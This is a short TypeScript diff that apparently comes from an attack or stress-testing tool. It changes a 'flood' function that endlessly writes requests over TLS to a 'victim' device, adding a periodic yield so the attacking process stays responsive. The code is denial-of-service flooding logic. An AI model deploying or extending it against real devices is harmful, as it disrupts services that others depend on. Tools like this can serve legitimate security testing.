@@ -75,6 +75,9 @@ const again =
     }
   };
 
+/** Requests that are written before other work of this process has its turn. */
+const AT_ONCE = 64;
+
 /** Writes requests again and again; whether responses are read is another's affair. */
 const flood = (
   make: (peer: SecurePeer, victim: Victim) => Uint8Array<ArrayBuffer>,
@@ -82,9 +85,11 @@ const flood = (
 ): DeviceAttack["act"] =>
 async (peer, victim) => {
   const bytes = make(peer, victim);
-  for (;;) {
+  for (let written = 1;; written++) {
     if (isNew) renew(bytes);
     await peer.write(bytes);
+    // TLS may always be ready: commands to this process would never be read.
+    if (written % AT_ONCE === 0) await pause(0);
   }
 };
 
